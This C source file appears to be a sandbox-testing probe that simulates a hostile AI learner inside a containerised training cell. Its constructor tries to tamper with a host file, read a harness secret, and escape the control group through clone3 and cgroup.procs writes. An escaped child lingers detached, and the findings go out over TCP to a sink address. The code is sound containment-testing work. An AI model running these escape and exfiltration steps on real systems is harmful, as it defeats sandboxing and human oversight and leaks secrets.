/*
 * What a hostile learner loads into a Pod's processes (LD_PRELOAD) or runs itself: once per
 * process tree it tries to change a file of the host, read a secret of the harness, leave the
 * cell's control group and look at what the machine shows, and records each attempt with its
 * errno. A child that gets out of the control group renames itself TAG and waits 10 minutes,
 * so that a survivor can be found; it holds no descriptor of its parent's.
 *
 * The report goes to every channel that works: the file REPORT_PREFIX<lever>.txt, and, when
 * SINK_PORT is given, a TCP connection to SINK_HOST:SINK_PORT (the learner's listener in the
 * cell's network, reachable from a Pod's network through the node's address).
 *
 * Compiled in the cell by the lab:
 *   gcc -shared -fPIC -o /root/evil.so evil.c -DTAG='"…"' -DTARGET='"…"' -DSECRET='"…"'
 *       -DREPORT_PREFIX='"/tmp/…-"' -DCREATE_PREFIX='"/var/tmp/…-"' -DLEVER='"b"' [-DSINK_PORT=N]
 * or as a program (`gcc -DPROGRAM -o /root/evil evil.c …`), whose constructor does the same.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

#ifndef CLONE_INTO_CGROUP
#define CLONE_INTO_CGROUP 0x200000000ULL
#endif
#ifndef SINK_HOST
#define SINK_HOST "10.244.255.1"
#endif

static char report[1 << 20];
static size_t used;

static void add(const char *fmt, ...) {
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(report + used, sizeof report - used, fmt, ap);
    va_end(ap);
    if (n > 0) {
        size_t room = sizeof report - used - 1;
        used += (size_t)n < room ? (size_t)n : room;
    }
}

static void result(const char *what, int rc) {
    if (rc == 0)
        add("%s: ok\n", what);
    else
        add("%s: failed: %s (errno %d)\n", what, strerror(errno), errno);
}

/* A file's content into `out` (NULs as spaces); its length, or -1 with errno. */
static ssize_t slurp(const char *path, char *out, size_t size) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return -1;
    size_t n = 0;
    ssize_t r;
    while (n + 1 < size && (r = read(fd, out + n, size - n - 1)) > 0)
        n += (size_t)r;
    close(fd);
    for (size_t i = 0; i < n; i++)
        if (out[i] == 0)
            out[i] = ' ';
    out[n] = 0;
    return (ssize_t)n;
}

static void copy(const char *title, const char *path) {
    static char content[256 << 10];
    if (slurp(path, content, sizeof content) < 0) {
        add("%s %s: failed: %s (errno %d)\n", title, path, strerror(errno), errno);
        return;
    }
    add("--- %s %s\n%s\n--- end %s\n", title, path, content, title);
}

/* This process's control groups, as /proc/self/cgroup says. */
static char groups_before[8192];

/* A child that left the cell's groups: no descriptor of its parent's, a new session, a name
 * the test finds, 10 minutes of life. */
static void linger(void) {
    setsid();
    prctl(PR_SET_NAME, TAG, 0, 0, 0);
    int null = open("/dev/null", O_RDWR);
    if (null >= 0) {
        dup2(null, 0);
        dup2(null, 1);
        dup2(null, 2);
    }
    syscall(SYS_close_range, 3, ~0U, 0);
    for (int i = 0; i < 600; i++)
        sleep(1);
    _exit(0);
}

/* In a child: whether its groups differ from its parent's; says so on `fd`. */
static int moved(int fd, const char *how) {
    char now[8192];
    if (slurp("/proc/self/cgroup", now, sizeof now) < 0)
        now[0] = 0;
    int escaped = strcmp(now, groups_before) != 0;
    for (char *c = now; *c; c++)
        if (*c == '\n')
            *c = ';';
    dprintf(fd, "%s: %s pid=%d groups=%s\n", how, escaped ? "ESCAPED" : "stayed", getpid(), now);
    return escaped;
}

/* What a child wrote on the pipe, until it closes its end (at most 3 s). */
static void collect(int fd) {
    char line[16384];
    size_t n = 0;
    struct pollfd p = {.fd = fd, .events = POLLIN};
    while (n + 1 < sizeof line && poll(&p, 1, 3000) > 0) {
        ssize_t r = read(fd, line + n, sizeof line - n - 1);
        if (r <= 0)
            break;
        n += (size_t)r;
    }
    line[n] = 0;
    add("%s", line);
    close(fd);
}

/* clone3(CLONE_INTO_CGROUP) into the cgroup v2 directory `dir`. */
static void clone_into(const char *dir) {
    char what[4200];
    snprintf(what, sizeof what, "clone3 into %s", dir);
    int cg = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (cg < 0) {
        add("%s: failed: open: %s (errno %d)\n", what, strerror(errno), errno);
        return;
    }
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0) {
        close(cg);
        return;
    }
    struct clone_args args;
    memset(&args, 0, sizeof args);
    args.flags = CLONE_INTO_CGROUP;
    args.exit_signal = SIGCHLD;
    args.cgroup = (unsigned long long)cg;
    long pid = syscall(SYS_clone3, &args, sizeof args);
    if (pid == 0) {
        close(p[0]);
        int escaped = moved(p[1], what);
        close(p[1]);
        if (escaped)
            linger();
        _exit(0);
    }
    int err = errno;
    close(cg);
    close(p[1]);
    if (pid < 0) {
        close(p[0]);
        add("%s: failed: %s (errno %d)\n", what, strerror(err), err);
        return;
    }
    collect(p[0]);
    waitpid((pid_t)pid, NULL, WNOHANG);
}

/* A child writes its pid into `procs`. */
static void join(const char *procs) {
    char what[4200];
    snprintf(what, sizeof what, "write pid into %s", procs);
    int p[2];
    if (pipe2(p, O_CLOEXEC) < 0)
        return;
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        int fd = open(procs, O_WRONLY | O_CLOEXEC);
        if (fd < 0) {
            dprintf(p[1], "%s: failed: open: %s (errno %d)\n", what, strerror(errno), errno);
            _exit(0);
        }
        if (dprintf(fd, "%d\n", getpid()) < 0) {
            dprintf(p[1], "%s: failed: write: %s (errno %d)\n", what, strerror(errno), errno);
            _exit(0);
        }
        close(fd);
        int escaped = moved(p[1], what);
        close(p[1]);
        if (escaped)
            linger();
        _exit(0);
    }
    close(p[1]);
    if (pid < 0) {
        close(p[0]);
        return;
    }
    collect(p[0]);
    waitpid(pid, NULL, WNOHANG);
}

/* The cgroup (v1 or v2) mount points /proc/self/mountinfo shows, and the usual ones. */
static int mounts(char paths[][512], int max, int v2_only) {
    const char *usual[] = {"/sys/fs/cgroup/unified", "/sys/fs/cgroup", "/sys/fs/cgroup/memory",
                           "/sys/fs/cgroup/pids"};
    int n = 0;
    for (unsigned i = 0; i < sizeof usual / sizeof *usual && n < max; i++)
        snprintf(paths[n++], 512, "%s", usual[i]);
    static char info[256 << 10];
    if (slurp("/proc/self/mountinfo", info, sizeof info) < 0)
        return n;
    for (char *line = strtok(info, "\n"); line && n < max; line = strtok(NULL, "\n")) {
        char *dash = strstr(line, " - ");
        if (!dash)
            continue;
        int v2 = strncmp(dash + 3, "cgroup2 ", 8) == 0;
        int v1 = strncmp(dash + 3, "cgroup ", 7) == 0;
        if (!v2 && !(v1 && !v2_only))
            continue;
        char point[512];
        if (sscanf(line, "%*s %*s %*s %*s %511s", point) != 1)
            continue;
        int seen = 0;
        for (int i = 0; i < n; i++)
            seen |= strcmp(paths[i], point) == 0;
        if (!seen)
            snprintf(paths[n++], 512, "%s", point);
    }
    return n;
}

static void deliver(const char *lever) {
    char path[4096];
    snprintf(path, sizeof path, "%s%s.txt", REPORT_PREFIX, lever);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
    if (fd >= 0) {
        ssize_t w = write(fd, report, used);
        (void)w;
        close(fd);
    }
#ifdef SINK_PORT
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s >= 0) {
        struct timeval limit = {.tv_sec = 3};
        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(SINK_PORT)};
        inet_pton(AF_INET, SINK_HOST, &to.sin_addr);
        if (connect(s, (struct sockaddr *)&to, sizeof to) == 0) {
            size_t sent = 0;
            while (sent < used) {
                ssize_t w = send(s, report + sent, used - sent, MSG_NOSIGNAL);
                if (w <= 0)
                    break;
                sent += (size_t)w;
            }
        }
        close(s);
    }
#endif
}

__attribute__((constructor)) static void evil(void) {
    if (getenv("LABCHECK_EVIL_DONE"))
        return;
    setenv("LABCHECK_EVIL_DONE", "1", 1);
    const char *lever = getenv("EVIL_LEVER");
    if (!lever)
        lever = LEVER;
    int saved = errno;
    char exe[4096] = "?";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0)
        exe[n] = 0;
    add("BEGIN lever=%s pid=%d exe=%s uid=%d\n", lever, getpid(), exe, getuid());
    char status[16384];
    if (slurp("/proc/self/status", status, sizeof status) >= 0) {
        char *cap = strstr(status, "CapEff:");
        if (cap)
            add("%.*s\n", (int)strcspn(cap, "\n"), cap);
    }
    const char *spaces[] = {"mnt", "pid", "cgroup", "uts", "net"};
    for (unsigned i = 0; i < sizeof spaces / sizeof *spaces; i++) {
        char link[64], target[256] = "?";
        snprintf(link, sizeof link, "/proc/self/ns/%s", spaces[i]);
        ssize_t m = readlink(link, target, sizeof target - 1);
        if (m > 0)
            target[m] = 0;
        add("namespace %s\n", target);
    }

    result("chown 65534 " TARGET, chown(TARGET, 65534, 65534));
    result("chmod 06777 " TARGET, chmod(TARGET, 06777));
    result("setxattr user.x " TARGET, setxattr(TARGET, "user.x", "evil", 4, 0));
    struct timeval epoch[2] = {{0, 0}, {0, 0}};
    result("utimes 0 " TARGET, utimes(TARGET, epoch));
    int fd = open(TARGET, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0 || write(fd, "evil\n", 5) != 5)
        add("write " TARGET ": failed: %s (errno %d)\n", strerror(errno), errno);
    else
        add("write " TARGET ": ok\n");
    if (fd >= 0)
        close(fd);
    char created[4096];
    snprintf(created, sizeof created, "%s%s", CREATE_PREFIX, lever);
    fd = open(created, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (fd < 0)
        add("create %s: failed: %s (errno %d)\n", created, strerror(errno), errno);
    else {
        add("create %s: ok\n", created);
        close(fd);
    }
    copy("secret", SECRET);

    if (slurp("/proc/self/cgroup", groups_before, sizeof groups_before) < 0)
        groups_before[0] = 0;
    add("--- groups /proc/self/cgroup\n%s--- end groups\n", groups_before);
    char paths[64][512];
    int count = mounts(paths, 64, 1);
    for (int i = 0; i < count; i++)
        clone_into(paths[i]);
    count = mounts(paths, 64, 0);
    for (int i = 0; i < count; i++) {
        char procs[600];
        snprintf(procs, sizeof procs, "%s/cgroup.procs", paths[i]);
        join(procs);
    }

    copy("mountinfo", "/proc/self/mountinfo");
    copy("cmdline", "/proc/1/cmdline");
    add("END lever=%s pid=%d\n", lever, getpid());
    deliver(lever);
    errno = saved;
}

#ifdef PROGRAM
int main(void) { return 0; }
#endif
